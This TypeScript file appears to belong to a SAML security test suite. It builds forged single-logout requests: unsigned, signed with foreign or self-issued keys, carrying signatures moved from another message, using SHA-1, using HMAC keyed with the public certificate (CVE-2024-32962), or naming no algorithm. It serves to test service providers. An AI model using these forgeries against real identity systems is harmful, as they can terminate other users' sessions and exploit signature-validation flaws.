import { createHmac } from 'node:crypto';
import { signatureAlgorithms } from '../../../saml/vocabulary.ts';
import { base64Of } from '../../../seed/saml-key.ts';
import type { Text } from '../../attack.ts';
import { idOf } from '../../attacks/forged.ts';
import { afterIssuer, takeSignature } from '../../forge/pieces.ts';
import { canonical, digestOf, macSignature, signatureOf, signedInfo } from '../../forge/raw-signature.ts';
import { strangerKey } from '../../forge/stranger-key.ts';
import type { LogoutBinding, LogoutVariant, OpenSession } from '../logout-attack.ts';
import { type LogoutForge, type LogoutSigning, signMessage, type Writing } from '../logout-forge.ts';
import { logoutAttackOf, postOnly, words } from './logout-of.ts';
import { ownSession } from './own-session.ts';

const attack = logoutAttackOf({
  references: ['SAML Profiles 2.0, 4.4.4.1'],
});
const algorithmAttack = logoutAttackOf({
  references: ['BSI TR-02102-1', 'BSI TR-03116-4'],
  requirements: ['A3.11.10', 'A3.5.02', 'A3.6.02'],
});

const dsigMore = 'http://www.w3.org/2001/04/xmldsig-more#';

/** A request for the session, sent in this way. */
const sent = (forge: LogoutForge, binding: LogoutBinding, name: Text, writing: Writing): LogoutVariant => ({
  name,
  craft: (session) => forge.write(binding, forge.request(session), writing),
});

const signedWith = (forge: LogoutForge, binding: LogoutBinding, name: Text, signing: LogoutSigning) =>
  sent(forge, binding, name, { signing });

/** A query whose signature is written by hand, or not at all. */
const queried = (
  forge: LogoutForge,
  name: Text,
  query: (pairs: readonly string[], session: OpenSession) => readonly string[],
): LogoutVariant => ({
  name,
  craft: (session) =>
    forge.query(query(forge.pairs(forge.request(session), { signing: 'none' }), session).join('&')),
});

const sigAlg = (uri: string): string => `SigAlg=${encodeURIComponent(uri)}`;

function unsigned(forge: LogoutForge, binding: LogoutBinding): readonly LogoutVariant[] {
  const bare = sent(forge, binding, words('ohne Signatur', 'without signature'), { signing: 'none' });
  if (binding === 'post') return [bare];
  const method = sigAlg(signatureAlgorithms[forge.algorithm('redirect')]);
  return [
    bare,
    queried(forge, words('nur SigAlg', 'SigAlg only'), (pairs) => [...pairs, method]),
    queried(forge, words('leere Signatur', 'empty signature'), (pairs) => [...pairs, method, 'Signature=']),
  ];
}

/** The signature of a message that the provider has made for the attacker's own session. */
function moved(forge: LogoutForge, binding: LogoutBinding): readonly LogoutVariant[] {
  const own = () => forge.request(ownSession(forge));
  if (binding === 'redirect')
    return [
      {
        name: words('Signatur einer anderen Adresse', 'signature of another address'),
        craft(session) {
          const signature = forge.signature(forge.pairs(own()).join('&'));
          return forge.query([...forge.pairs(forge.request(session)), signature].join('&'));
        },
      },
    ];
  return [
    {
      name: words('Signatur einer anderen Nachricht', 'signature of another message'),
      craft(session) {
        const { signature } = takeSignature(signMessage(forge, own()));
        return forge.write('post', afterIssuer(forge.request(session), signature), { signing: 'none' });
      },
    },
    {
      name: words('mit deren Kennung', 'with its ID'),
      craft(session) {
        const other = signMessage(forge, own());
        const request = forge.request(session).replace(/ ID="[^"]*"/, ` ID="${idOf(other)}"`);
        const { signature } = takeSignature(other);
        return forge.write('post', afterIssuer(request, signature), { signing: 'none' });
      },
    },
  ];
}

/** Secrets that are none: forms in which libraries hold a public key. */
const publicSecrets = (certificate: string): readonly (readonly [Text, string])[] => [
  [words('Zertifikat als Geheimnis', 'certificate as secret'), certificate],
  [words('Zertifikat ohne Rahmen', 'certificate without its frame'), base64Of(certificate)],
  [words('leeres Geheimnis', 'empty secret'), ''],
];

const noMethods = ['none', '', 'urn:angriff:keines'];

function unknownMethods(forge: LogoutForge, binding: LogoutBinding): readonly LogoutVariant[] {
  return noMethods.map((method) => {
    const name = words(`„${method}“`, `"${method}"`);
    if (binding === 'redirect')
      return queried(forge, name, (pairs) => [...pairs, sigAlg(method), 'Signature=AAAA']);
    return handSigned(forge, name, (info, certificate) =>
      signatureOf({ infos: [info(method)], value: 'AAAA', certificate }),
    );
  });
}

function macs(forge: LogoutForge, binding: LogoutBinding): readonly LogoutVariant[] {
  const { certificate } = forge.facts.key;
  const method = `${dsigMore}hmac-sha256`;
  return publicSecrets(certificate).map(([name, secret]) => {
    if (binding === 'redirect')
      return queried(forge, name, (pairs) => {
        const octets = [...pairs, sigAlg(method)];
        const mac = createHmac('sha256', secret).update(octets.join('&')).digest('base64');
        return [...octets, `Signature=${encodeURIComponent(mac)}`];
      });
    return handSigned(forge, name, (_info, own, reference) =>
      macSignature({ references: [reference], method }, secret, 'sha256', own),
    );
  });
}

type Reference = { readonly uri: string; readonly digest: string };

/** A posted request with a signature that is made of its reference. */
const handSigned = (
  forge: LogoutForge,
  name: Text,
  make: (info: (method: string) => string, certificate: string, reference: Reference) => string,
): LogoutVariant => ({
  name,
  craft(session) {
    const request = forge.request(session);
    const reference = { uri: `#${idOf(request)}`, digest: digestOf(canonical(request)) };
    const info = (method: string) => signedInfo({ references: [reference], method });
    const signature = make(info, forge.facts.key.certificate, reference);
    return forge.write('post', afterIssuer(request, signature), { signing: 'none' });
  },
});

function weak(forge: LogoutForge, binding: LogoutBinding): readonly LogoutVariant[] {
  const signature = signedWith(forge, binding, words('Signatur', 'signature'), { algorithm: 'rsa-sha1' });
  if (binding === 'post')
    return [signature, signedWith(forge, binding, words('Prüfwert', 'digest'), { digest: 'sha1' })];
  return [
    signature,
    // Some take SHA-1 where no algorithm is named.
    queried(forge, words('ohne SigAlg', 'without SigAlg'), (pairs) => [
      ...pairs,
      forge.signature(pairs.join('&'), { algorithm: 'rsa-sha1' }),
    ]),
  ];
}

/** Logouts that the provider has not signed, or by rules that are not allowed any more. */
export const logoutSignatureAttacks = [
  attack({
    id: 'logout-unsigned',
    title: { de: 'Abmeldung ohne Signatur', en: 'Logout without signature' },
    references: ['SAML Profiles 2.0, 4.4.4.1', 'CWE-347'],
    variants: unsigned,
  }),
  attack({
    id: 'logout-wrong-key',
    title: { de: 'Abmeldung mit fremdem Schlüssel signiert', en: 'Logout signed with a foreign key' },
    variants: (forge, binding) => [
      signedWith(forge, binding, words('ohne Zertifikat', 'without certificate'), {
        key: strangerKey,
        certificate: null,
      }),
      ...(binding === 'post'
        ? [
            signedWith(forge, binding, words('mit echtem Zertifikat', 'with the genuine certificate'), {
              key: strangerKey,
              certificate: forge.facts.key.certificate,
            }),
          ]
        : []),
    ],
  }),
  attack({
    id: 'logout-key-info',
    bindings: postOnly,
    title: {
      de: 'Abmeldung bringt ihr Zertifikat selbst mit (KeyInfo)',
      en: 'Logout brings its own certificate (KeyInfo)',
    },
    references: ['XML Signature 1.1, 4.5'],
    variants: (forge, binding) => [
      signedWith(forge, binding, words('selbst ausgestellt', 'self-issued'), { key: strangerKey }),
    ],
  }),
  attack({
    id: 'logout-other-provider-key',
    title: {
      de: 'Abmeldung mit dem Schlüssel eines anderen Anmeldedienstes signiert',
      en: 'Logout signed with the key of another provider',
    },
    variants: (forge, binding) => [
      signedWith(forge, binding, words('anderer Dienst', 'another provider'), { key: forge.facts.otherKey }),
    ],
  }),
  attack({
    id: 'logout-signature-moved',
    title: {
      de: 'Signatur einer anderen Nachricht an der Abmeldung',
      en: 'Signature of another message at the logout',
    },
    variants: moved,
  }),
  algorithmAttack({
    id: 'logout-sha1',
    title: { de: 'Abmeldung mit SHA-1 signiert', en: 'Logout signed with SHA-1' },
    variants: weak,
  }),
  algorithmAttack({
    id: 'logout-hmac',
    title: {
      de: 'Abmeldung mit HMAC und öffentlichem Schlüssel als Geheimnis',
      en: 'Logout with HMAC and the public key as secret',
    },
    references: ['CVE-2024-32962'],
    variants: macs,
  }),
  algorithmAttack({
    id: 'logout-no-algorithm',
    title: {
      de: 'Abmeldung mit keinem oder unbekanntem Verfahren',
      en: 'Logout with no algorithm, or an unknown one',
    },
    variants: unknownMethods,
  }),
];
